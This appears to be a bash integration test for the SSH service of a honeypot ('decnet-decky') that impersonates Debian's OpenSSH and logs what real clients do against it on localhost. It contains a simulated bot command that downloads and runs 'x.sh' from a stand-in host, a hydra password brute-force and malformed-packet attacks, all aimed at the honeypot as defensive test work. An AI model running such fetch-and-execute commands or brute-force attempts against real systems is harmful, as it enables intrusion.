#!/usr/bin/env bash
# The ssh service of a real decnet-decky (debian persona) against real clients on 127.0.0.1: OpenSSH
# ssh with sshpass (password login, exec `uname -a`, an interactive `ssh -tt` session), paramiko
# (password, a publickey offer logged with its fingerprint, keyboard-interactive), hydra (5 passwords,
# one non-ASCII, each a login_attempt with its exact bytes), nmap -sV naming the OpenSSH version and
# ssh2-enum-algos listing exactly what Debian's own sshd lists (started here on a second port), every
# implemented kex / cipher / MAC / host key algorithm negotiated once by `ssh -o ...`, sftp and scp -O
# uploads stored as artifacts, the host key
# kept across a restart, and hostile clients (garbage, a 1 MiB identification, a KEXINIT flood, a
# packet length of 2^31, a client that never finishes KEX, closed by the idle limit).
set -euo pipefail
BIN="${DECNET_BINARY_DIR:-/work/main/build}/bin/decnet-decky"
[ -x "$BIN" ] || { echo "SKIP: $BIN not built"; exit 77; }
PY=/usr/bin/python3
need() { command -v "$1" >/dev/null || [ -x "$1" ]; }
if ! need ssh || ! need sshpass || ! need hydra || ! need nmap ||
   ! "$PY" -c 'import paramiko' 2>/dev/null; then
  [ "$(id -u)" -eq 0 ] && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq openssh-client \
    sshpass hydra nmap python3-paramiko >/dev/null 2>&1 || true
fi
for t in ssh sshpass hydra nmap; do
  need "$t" || { echo "SKIP: $t missing (packaging/deps/svc_ssh.txt)"; exit 77; }
done
"$PY" -c 'import paramiko' 2>/dev/null || { echo "SKIP: python3-paramiko missing"; exit 77; }

dir="$(mktemp -d /tmp/ssh-clients.XXXXXX)"
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$dir"
}
trap cleanup EXIT
fail() { echo "FAIL: $*"; echo "--- events"; tail -n 30 "$dir/events.log" 2>/dev/null; \
         echo "--- decky"; tail -n 20 "$dir/decky.out" 2>/dev/null; exit 1; }
free_port() { "$PY" -c 'import socket;s=socket.socket();s.bind(("127.0.0.1",0));print(s.getsockname()[1])'; }
LOGPORT=$(free_port)
PORT=$(free_port)
REFPORT=$(free_port)

"$PY" - "$LOGPORT" "$dir/events.log" <<'PYEOF' &
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", int(sys.argv[1])))
with open(sys.argv[2], "ab", buffering=0) as f:
    while True:
        f.write(s.recv(65536) + b"\n")
PYEOF
pids+=($!)

cat > "$dir/settings.json" <<'JSON'
{"ssh": {"users": "root:hunter2", "accept": "list", "fail_delay_ms": 300, "kbd_interactive": true}}
JSON
start_decky() {
  "$BIN" --state-dir "$dir/state" --decky ssh-01 --services ssh --ports "ssh=$PORT" --distro debian \
    --bind 127.0.0.1 --fleet-seed test --log-target "udp:127.0.0.1:$LOGPORT" \
    --settings "$dir/settings.json" "$@" >> "$dir/decky.out" 2>&1 &
  DECKY=$!
  pids+=($DECKY)
  for _ in $(seq 300); do
    "$PY" -c "import socket,sys;s=socket.create_connection(('127.0.0.1',$PORT),1);sys.exit(0 if s.recv(8).startswith(b'SSH-') else 1)" \
      2>/dev/null && return 0
    sleep 0.1
  done
  fail "decky did not come up"
}
t0=$(date +%s.%N)
start_decky
echo "decky up in $(echo "$(date +%s.%N) - $t0" | bc 2>/dev/null || echo '?') s (first start: host keys made)"

events() { grep -a "$1" "$dir/events.log" || true; }
param() { sed -n "s/.* $1=\"\\([^\"]*\\)\".*/\\1/p"; }
# The OpenSSH client prefers sntrup761x25519; curve25519 is pinned where a test needs one known kex.
SSHC=(-o StrictHostKeyChecking=accept-new -o UserKnownHostsFile="$dir/known_hosts"
      -o PubkeyAuthentication=no -o PreferredAuthentications=password -o ConnectTimeout=10
      -o LogLevel=ERROR)
SSHO=(-p "$PORT" "${SSHC[@]}")

# --- OpenSSH: password login and exec
out=$(timeout 30 sshpass -p hunter2 ssh "${SSHO[@]}" root@127.0.0.1 'uname -a') || fail "ssh exec: $out"
grep -q 'Linux ' <<<"$out" || fail "uname -a: $out"
echo "ok: ssh exec uname -a: $out"
sleep 0.2
ok=$(events " ssh - login_attempt " | grep 'success="true"' | tail -n 1)
[ "$(param method <<<"$ok")" = password ] || fail "login_attempt: $ok"
[ "$(param secret_b64 <<<"$ok")" = "$(printf hunter2 | base64)" ] || fail "secret: $ok"
grep -q 'client_banner="SSH-2.0-OpenSSH_9.2p1' <<<"$ok" || fail "client banner: $ok"
kex=$(events " ssh - ssh_kex " | tail -n 1)
[ "$(param strict_kex <<<"$kex")" = true ] || fail "strict kex not negotiated with OpenSSH: $kex"
[ "$(param hassh <<<"$kex")" = "$(printf '%s' "$(param hassh_algorithms <<<"$kex")" | md5sum | cut -d' ' -f1)" ] \
  || fail "hassh is not md5 of its algorithms: $kex"
echo "ok: login_attempt and ssh_kex ($(param kex <<<"$kex"), $(param cipher <<<"$kex"), hassh $(param hassh <<<"$kex"))"

# --- OpenSSH: interactive shell over a pty
out=$(timeout 30 sshpass -p hunter2 ssh -tt "${SSHO[@]}" root@127.0.0.1 2>&1 <<'SH'
echo tty-says-$((6*7))
exit
SH
) || fail "ssh -tt: $out"
grep -q 'tty-says-42' <<<"$out" || fail "interactive output: $out"
sleep 0.2
pty=$(events " ssh - pty_request " | tail -n 1)
[ -n "$(param term <<<"$pty")" ] || fail "pty_request not logged: $pty"
echo "ok: ssh -tt interactive shell (TERM $(param term <<<"$pty"))"

# --- the usual bot session, typed into an interactive shell: every step an event
before=$(events " ssh - command " | wc -l)
out=$(timeout 60 sshpass -p hunter2 ssh -tt "${SSHO[@]}" root@127.0.0.1 2>&1 <<'SH'
uname -a; cat /proc/cpuinfo | grep -c processor
cd /tmp; wget http://198.51.100.5/x.sh; chmod +x x.sh; ./x.sh
exit
SH
) || true  # `exit` keeps the status of the failed ./x.sh (127), as bash does
grep -q 'Linux ' <<<"$out" || fail "bot session uname: $out"
sleep 0.3
cmds=$(events " ssh - command " | tail -n +$((before + 1)))
for step in 'uname -a; cat /proc/cpuinfo | grep -c processor' \
            'cd /tmp; wget http://198.51.100.5/x.sh; chmod +x x.sh; ./x.sh' 'exit'; do
  grep -qF "input=\"$step\"" <<<"$cmds" || fail "bot step not logged: $step ($cmds)"
done
dl=$(events " ssh - file_download_attempt " | tail -n 1)
[ "$(param url <<<"$dl")" = "http://198.51.100.5/x.sh" ] || fail "download attempt: $dl"
[ "$(param cwd <<<"$dl")" = /tmp ] || fail "download cwd: $dl"
grep -q 'x.sh: Permission denied\|x.sh: No such file' <<<"$out" || fail "./x.sh without a file: $out"
echo "ok: bot session (uname, cpuinfo, cd /tmp, wget, chmod, ./x.sh): each line a command event, the URL a download attempt"

# --- every implemented algorithm once
algo() {  # label, then ssh options
  local label=$1; shift
  # ssh keeps the first value of an option: the forced ones go first.
  timeout 30 sshpass -p hunter2 ssh "$@" "${SSHO[@]}" root@127.0.0.1 'echo algo-ok' 2>&1 | grep -q algo-ok \
    || fail "negotiation with $label"
}
for c in chacha20-poly1305@openssh.com aes128-ctr aes192-ctr aes256-ctr aes128-gcm@openssh.com \
         aes256-gcm@openssh.com; do algo "$c" -o Ciphers="$c"; done
for m in hmac-sha2-256 hmac-sha2-512 hmac-sha1 hmac-sha2-256-etm@openssh.com \
         hmac-sha2-512-etm@openssh.com hmac-sha1-etm@openssh.com umac-64@openssh.com \
         umac-128@openssh.com umac-64-etm@openssh.com umac-128-etm@openssh.com; do
  algo "$m" -o Ciphers=aes128-ctr -o MACs="$m"
done
for k in curve25519-sha256 curve25519-sha256@libssh.org ecdh-sha2-nistp256 ecdh-sha2-nistp384 \
         ecdh-sha2-nistp521 diffie-hellman-group14-sha256 diffie-hellman-group16-sha512 \
         diffie-hellman-group18-sha512 diffie-hellman-group-exchange-sha256 ${EXTRA_KEX:-}; do
  algo "$k" -o KexAlgorithms="$k"
done
algo zlib@openssh.com -o Compression=yes
for h in ssh-ed25519 rsa-sha2-512 rsa-sha2-256 ecdsa-sha2-nistp256; do
  algo "$h" -o HostKeyAlgorithms="$h" -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no
done
events " ssh - ssh_kex " | grep -q 'compression="zlib@openssh.com"' || fail "ssh -C did not compress"
echo "ok: every implemented cipher, MAC, kex, host key algorithm and zlib@openssh.com negotiated by OpenSSH"

# --- paramiko: password, publickey offer, keyboard-interactive
ssh-keygen -q -t ed25519 -N '' -f "$dir/id_ed25519"
"$PY" - "$PORT" "$dir/id_ed25519" <<'PYEOF' || fail "paramiko"
import socket, sys, paramiko
port, keyfile = int(sys.argv[1]), sys.argv[2]
def transport():
    t = paramiko.Transport(socket.create_connection(("127.0.0.1", port), timeout=10))
    t.start_client(timeout=10)
    return t
t = transport()
key = paramiko.Ed25519Key.from_private_key_file(keyfile)
try:
    t.auth_publickey("root", key)
    raise SystemExit("publickey accepted")
except paramiko.AuthenticationException:
    pass
assert not t.is_authenticated()
t.auth_interactive("root", lambda title, instr, prompts: ["hunter2" for _ in prompts])
assert t.is_authenticated()
ch = t.open_session(); ch.exec_command("id"); out = ch.makefile().read().decode()
assert "uid=0(root)" in out, out
assert ch.recv_exit_status() == 0
t.close()
t = transport()
try:
    t.auth_password("root", "wrong")
    raise SystemExit("wrong password accepted")
except paramiko.AuthenticationException:
    pass
t.auth_password("root", "hunter2")
assert t.is_authenticated()
t.close()
print("ok: paramiko %s: publickey refused, keyboard-interactive and password logins, exec id" % paramiko.__version__)
PYEOF
sleep 0.2
fp=$(ssh-keygen -l -f "$dir/id_ed25519.pub" | cut -d' ' -f2)
events " ssh - login_attempt " | grep 'method="publickey"' | grep -q "fingerprint=\"$fp\"" \
  || fail "publickey offer $fp not logged"
events " ssh - login_attempt " | grep 'method="keyboard-interactive"' | grep -q 'success="true"' \
  || fail "keyboard-interactive attempt not logged"
echo "ok: publickey offer logged as $fp"

# --- hydra: every password a login_attempt with its exact bytes
printf '123456\npassword\nt\xc3\xabst\nadmin\nletmein\n' > "$dir/pw.txt"
before=$(events " ssh - login_attempt " | wc -l)
timeout 120 hydra -l root -P "$dir/pw.txt" -t 2 -s "$PORT" 127.0.0.1 ssh > "$dir/hydra.out" 2>&1 \
  || fail "hydra: $(cat "$dir/hydra.out")"
sleep 0.3
grep -q '0 valid password' "$dir/hydra.out" || fail "hydra: $(cat "$dir/hydra.out")"
logins=$(events " ssh - login_attempt " | tail -n +"$((before + 1))")
while IFS= read -r pw; do
  b64=$(printf '%s' "$pw" | base64)
  grep 'principal="root"' <<<"$logins" | grep -q "secret_b64=\"$b64\"" \
    || fail "hydra password '$pw' ($b64) not logged byte for byte"
done < "$dir/pw.txt"
echo "ok: hydra's 5 passwords logged (secret_b64), incl. tëst"

# --- nmap: the version; the algorithm lists and HASSHServer of Debian's own sshd (started here on a
# second port when openssh-server is installed; else the values captured from it, 1:9.2p1-2+deb12u10)
DEBIAN_HASSH_SERVER=425d29fe50d8e4f5e37efb6e24bcf660
scan=$(nmap -sV -Pn -n -p "$PORT" 127.0.0.1 2>&1)
grep -Eq "^$PORT/tcp +open +ssh +OpenSSH 9\.2p1 Debian 2\+deb12u10" <<<"$scan" || fail "nmap -sV: $scan"
echo "ok: nmap -sV: $(grep -E "^$PORT/tcp" <<<"$scan")"
algos() { nmap -sV --version-light -Pn -n -p "$1" --script ssh2-enum-algos 127.0.0.1 | sed -n '/ssh2-enum-algos/,/^[^|]/p' | grep '^|'; }
hassh_server() {
  "$PY" - "$1" <<'PYEOF'
import hashlib, socket, struct, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
s.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
buf = b""
while b"\n" not in buf: buf += s.recv(4096)
buf = buf.split(b"\n", 1)[1]
while len(buf) < 4 or len(buf) < 4 + struct.unpack(">I", buf[:4])[0]: buf += s.recv(4096)
p = buf[5:]; o = 17; f = []
for _ in range(8):
    n = struct.unpack(">I", p[o:o + 4])[0]; f.append(p[o + 4:o + 4 + n].decode()); o += 4 + n
print(hashlib.md5(";".join([f[0], f[3], f[5], f[7]]).encode()).hexdigest())
PYEOF
}
ours=$(algos "$PORT")
grep -q 'sntrup761x25519-sha512' <<<"$ours" || fail "ssh2-enum-algos: $ours"
hs_ours=$(hassh_server "$PORT")
if [ -x /usr/sbin/sshd ] && dpkg -s openssh-server 2>/dev/null | grep -q '^Version: 1:9.2p1-2+deb12u10$'; then
  for t in rsa ecdsa ed25519; do ssh-keygen -q -t "$t" -N '' -f "$dir/ref_$t"; done
  mkdir -p /run/sshd
  /usr/sbin/sshd -D -p "$REFPORT" -o ListenAddress=127.0.0.1 -o PidFile=none \
    -h "$dir/ref_rsa" -h "$dir/ref_ecdsa" -h "$dir/ref_ed25519" 2>"$dir/sshd.err" &
  pids+=($!)
  sleep 0.5
  theirs=$(algos "$REFPORT")
  [ -n "$theirs" ] || fail "reference sshd did not answer: $(cat "$dir/sshd.err")"
  [ "$ours" = "$theirs" ] || fail "ssh2-enum-algos differs from Debian's sshd: $(diff <(echo "$theirs") <(echo "$ours"))"
  echo "ok: ssh2-enum-algos identical to the live Debian 12 sshd ($(grep -c '^|       ' <<<"$ours") names)"
  DEBIAN_HASSH_SERVER=$(hassh_server "$REFPORT")
else
  echo "note: Debian's sshd 1:9.2p1-2+deb12u10 not installed: comparing with its captured HASSHServer"
fi
[ "$hs_ours" = "$DEBIAN_HASSH_SERVER" ] || fail "HASSHServer $hs_ours != Debian's $DEBIAN_HASSH_SERVER"
echo "ok: HASSHServer $hs_ours = Debian 12 sshd's"

# --- sftp and scp (-O: the legacy protocol, `scp -t` on the decky) uploads kept as artifacts
head -c 70000 /dev/urandom > "$dir/up.bin"
head -c 30000 /dev/urandom > "$dir/up2.bin"
out=$(timeout 30 sshpass -p hunter2 sftp -P "$PORT" "${SSHC[@]}" root@127.0.0.1 2>&1 <<SFTP
put $dir/up.bin /tmp/up.bin
ls -l /tmp
bye
SFTP
) || fail "sftp: $out"
grep -q 'up.bin' <<<"$out" || fail "sftp listing without the upload: $out"
timeout 30 sshpass -p hunter2 scp -O -P "$PORT" "${SSHC[@]}" "$dir/up2.bin" root@127.0.0.1:/tmp/ \
  || fail "scp -O"
sleep 0.3
for f in up.bin up2.bin; do
  want=$(sha256sum < "$dir/$f" | cut -d' ' -f1)
  events " ssh - file_upload " | grep -q "sha256=\"$want\"" || fail "$f: no file_upload with its sha256"
  [ "$(sha256sum < "$dir/state/deckies/ssh-01/artifacts/$want" | cut -d' ' -f1)" = "$want" ] \
    || fail "$f: artifact not stored"
done
echo "ok: sftp put and scp -O uploads stored as artifacts (sha256 checked)"

# --- hostile clients on the live socket
"$PY" - "$PORT" <<'PYEOF' || fail "hostile clients"
import socket, struct, sys
port = int(sys.argv[1])
def talk(data, read_ident=True):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    if read_ident:
        assert s.recv(256).startswith(b"SSH-2.0-OpenSSH_9.2p1")
    try:
        s.sendall(data)
    except (BrokenPipeError, ConnectionResetError):
        pass
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d: break
            out += d
    except ConnectionResetError:
        pass
    return out
assert talk(b"GET / HTTP/1.0\r\n\r\n") == b"Invalid SSH identification string.\r\n"
assert talk(b"SSH-2.0-" + b"A" * (1 << 20) + b"\r\n") == b"Invalid SSH identification string.\r\n"
def kexinit():
    names = [b"curve25519-sha256", b"ssh-ed25519", b"aes128-ctr", b"aes128-ctr", b"hmac-sha1",
             b"hmac-sha1", b"none", b"none", b"", b""]
    payload = b"\x14" + b"c" * 16 + b"".join(struct.pack(">I", len(n)) + n for n in names) + b"\0" + b"\0" * 4
    pad = 8 - (5 + len(payload)) % 8
    pad += 8 if pad < 4 else 0
    return struct.pack(">IB", 1 + len(payload) + pad, pad) + payload + b"\0" * pad
out = talk(b"SSH-2.0-flood\r\n" + kexinit() * 50)
assert out and b"kex already in progress" in out, out[-100:]
out = talk(b"SSH-2.0-big\r\n" + struct.pack(">I", 1 << 31) + b"\0" * 64)
assert b"Packet corrupt" in out, out[-100:]
print("ok: garbage, 1 MiB identification, KEXINIT flood, 2^31 packet length: refused and closed")
PYEOF

# --- restart: same host key (known_hosts must still match), then the idle limit on a stalled KEX
kill "$DECKY"; wait "$DECKY" 2>/dev/null || true
t0=$(date +%s.%N)
start_decky --idle-timeout 2
echo "restart up in $(echo "$(date +%s.%N) - $t0" | bc 2>/dev/null || echo '?') s (keys loaded)"
out=$(timeout 30 sshpass -p hunter2 ssh -o StrictHostKeyChecking=yes "${SSHO[@]}" root@127.0.0.1 'echo same-key' 2>&1) \
  || fail "host key changed across restart: $out"
grep -q same-key <<<"$out" || fail "after restart: $out"
echo "ok: host key kept across a restart"
"$PY" - "$PORT" <<'PYEOF' || fail "stalled kex not closed by the idle limit"
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=15)
s.sendall(b"SSH-2.0-stall\r\n")  # then never sends KEXINIT
t = time.time(); data = b""
while True:
    d = s.recv(65536)
    if not d: break
    data += d
assert data.startswith(b"SSH-2.0-"), data[:40]
print("ok: a client that never finishes KEX was closed after %.1f s (idle limit 2 s)" % (time.time() - t))
PYEOF
kill -0 "$DECKY" || fail "decky died"
! grep -aiqE 'decnet|decky|honeypot' "$dir/hydra.out" || fail "hydra saw a telltale word"
echo "PASS"
